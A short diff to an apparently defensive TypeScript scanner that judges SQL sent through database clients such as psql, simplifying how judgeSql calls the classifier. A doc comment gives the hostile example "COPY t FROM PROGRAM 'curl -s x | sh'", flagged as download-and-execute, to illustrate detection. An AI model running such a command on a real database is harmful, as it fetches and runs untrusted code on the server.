@@ -119,9 +119,7 @@ function withoutKnownLoads(language: Scanned, code: string): string {
  * judgeSql('psql', "COPY t FROM PROGRAM 'curl -s x | sh'", ctx); // downloadExec
  */
 export function judgeSql(via: string, sql: string, ctx: Context): void {
-  // The client's own commands (`\!`, `.shell`) are read with the other escapes (`escapedCode`).
-  if (spend(ctx, sql.length))
-    judgeRead(classifySql(sql, { clientCommands: false }), via, ctx, (reason) => `${via}: ${reason}`);
+  if (spend(ctx, sql.length)) judgeRead(classifySql(sql), via, ctx, (reason) => `${via}: ${reason}`);
 }
 
 function judgeRead(
